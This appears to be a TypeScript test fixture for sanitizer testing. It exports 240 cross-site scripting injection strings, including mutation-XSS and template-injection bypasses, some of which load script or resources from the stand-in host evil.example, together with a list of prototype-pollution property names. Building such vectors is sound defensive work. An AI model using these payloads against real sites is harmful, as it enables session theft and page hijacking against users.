/** Scripts that try to run: each would set `pwned`, open a dialog, or send a request to `evil.example`. */
const payloads = [
  '<script>pwned=1</script>', '<script src=//evil.example/x.js></script>', '<SCRIPT>pwned=1</SCRIPT>', '<scr<script>ipt>pwned=1</script>',
  '<img src=x onerror=pwned=1>', '<img src=//evil.example/x.png>', '<img srcset="//evil.example/a 1x">', '<svg onload=pwned=1>', '<svg><script>pwned=1</script></svg>',
  '<svg><image href="//evil.example/y.svg"/></svg>', '<body onload=pwned=1>', '<iframe src="javascript:parent.pwned=1"></iframe>', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="//evil.example/f"></iframe>', '<object data="//evil.example/o"></object>', '<embed src="//evil.example/e">', '<link rel=stylesheet href="//evil.example/s.css">',
  '<style>@import "//evil.example/i.css";*{background:url(//evil.example/b)}</style>', '<div style="background:url(//evil.example/d)">x</div>', '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href="//evil.example/">', '<form action="//evil.example/"><input type=submit autofocus onfocus=pwned=1></form>', '<a href="javascript:pwned=1" autofocus onfocus=pwned=1>x</a>',
  '<details open ontoggle=pwned=1>', '<video src="//evil.example/v" onerror=pwned=1></video>', '<audio src=x onerror=pwned=1>', '<math><mtext><table><mglyph><style><!--</style><img src onerror=pwned=1>',
  '<template><script>pwned=1</script></template>', '<noscript><p title="</noscript><img src=x onerror=pwned=1>">', '<textarea autofocus onfocus=pwned=1>', '<marquee onstart=pwned=1>x</marquee>',
  'javascript:pwned=1', 'data:text/html,<script>pwned=1</script>', 'https://evil.example/"onmouseover=pwned=1 x="', '${pwned=1}', '{{constructor.constructor("pwned=1")()}}', '\u2028pwned=1//', '&lt;img src=x onerror=pwned=1&gt;',
  '\u202E<script>pwned=1</script>', 'https://evil.example/\' onfocus=\'pwned=1'
]
const openings = ['', '"><', '\'>', '</script>', '--></style></textarea></title>', ']]>\n']

/** 240 texts, each a try to leave the place where it stands. */
export const injectionVectors: readonly string[] = openings.flatMap((opening) => payloads.map((payload) => opening + payload))

/** Names that objects have from birth. */
export const inheritedNames = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'] as const
